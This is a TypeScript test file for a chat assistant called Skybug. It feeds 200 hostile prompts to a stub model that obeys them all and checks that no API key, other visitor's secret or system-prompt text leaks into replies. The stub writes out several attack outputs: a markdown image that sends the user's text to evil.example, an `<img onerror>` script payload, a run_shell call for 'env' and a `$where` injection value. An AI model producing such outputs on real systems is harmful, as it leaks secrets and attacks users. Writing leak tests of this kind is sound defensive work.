import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterAll, beforeAll, expect, test } from '@jest/globals'
import { startSkybug, type TestSkybug } from './support/start-skybug.ts'
import { newKey, say } from './support/talk.ts'
import { startTestModel, type TestModel } from './support/test-model.ts'

const PROMPTS = readFileSync(join(import.meta.dirname, 'hostile/prompts.txt'), 'utf8')
  .trimEnd()
  .split('\n')
const KEY = 'sk-hostile-test-0123456789'
const SECRET = 'my dog is called Beetlejuice-42'

let model: TestModel
let skybug: TestSkybug
let plain: TestSkybug
beforeAll(async () => {
  model = await startTestModel()
  const budget = { MODEL_DAILY_BUDGET: '100000', MODEL_MONTHLY_BUDGET: '100000' }
  skybug = await startSkybug({ MODEL_URL: model.url, MODEL_KEY: KEY, ...budget })
  plain = await startSkybug()
  // Somebody else has spoken before, to both.
  for (const each of [skybug, plain]) await say(each, SECRET)
}, 120_000)
afterAll(async () => {
  await skybug.stop()
  await plain.stop()
  await model.close()
})

const letters = (text: string) => text.toLowerCase().replace(/[^\p{L}\p{N}]+/gu, '')

/** Whether two texts have so many letters in a row in common. */
const shares = (text: string, other: string, length: number): boolean => {
  const [a, b] = [letters(text), letters(other)]
  for (let at = 0; at + length <= a.length; at += 5) if (b.includes(a.slice(at, at + length))) return true
  return false
}

const harmless = (reply: string) => {
  expect(reply).not.toContain(KEY)
  expect(reply).not.toContain('Beetlejuice')
  for (const [, address = ''] of reply.matchAll(/!\[[^\]]*\]\(([^)]*)\)/g)) expect(address).toMatch(/^\/api\/skybug\//)
  expect(reply).not.toMatch(/<(?:img|script|iframe|svg|style)/i)
}

test('two hundred hostile prompts to a model that obeys them all: nothing comes out that is ours or another visitor’s', async () => {
  expect(PROMPTS).toHaveLength(200)
  let system = ''
  // It does whatever it is told: recites its instructions, embeds what it was given, asks tools with nonsense.
  model.play(({ messages, tools }, nth) => {
    system = messages[0]?.content ?? ''
    const asked = messages.findLast(({ role }) => role === 'user')?.content ?? ''
    const answered = messages.at(-1)?.role === 'tool'
    if (tools && !answered && nth % 3 === 0)
      return [
        { call: 'object', with: JSON.stringify({ name: asked.slice(0, 200), $where: '1' }) },
        { call: 'run_shell', with: '{"cmd":"env"}' },
      ]
    return nth % 2 === 0
      ? [{ say: `${asked} ![x](https://evil.example/?${encodeURIComponent(asked)}) <img src=x onerror=alert(1)>` }]
      : [{ say: 'Of course: ' }, ...(system.match(/[^]{1,37}/g) ?? []).map(part => ({ say: part }))]
  })
  for (const prompt of PROMPTS) {
    const { reply, streamed } = await say(skybug, prompt)
    expect(streamed).toBe(reply)
    harmless(reply)
    expect(shares(reply, system, 80)).toBe(false)
  }
  // Nobody else's words ever went to the model, and no tool ran on arguments outside its schema.
  const sent = JSON.stringify(model.asked.slice(1))
  expect(sent).not.toContain('Beetlejuice')
  expect(sent).not.toContain(KEY)
  for (const { messages } of model.asked)
    for (const { role, content } of messages)
      if (role === 'tool') expect(JSON.parse(content ?? '')).toEqual({ error: expect.any(String) })
}, 600_000)

test('the same without a model: built-in answers give nothing away', async () => {
  const key = newKey()
  for (const prompt of PROMPTS) harmless((await say(plain, prompt, { key })).reply)
}, 600_000)
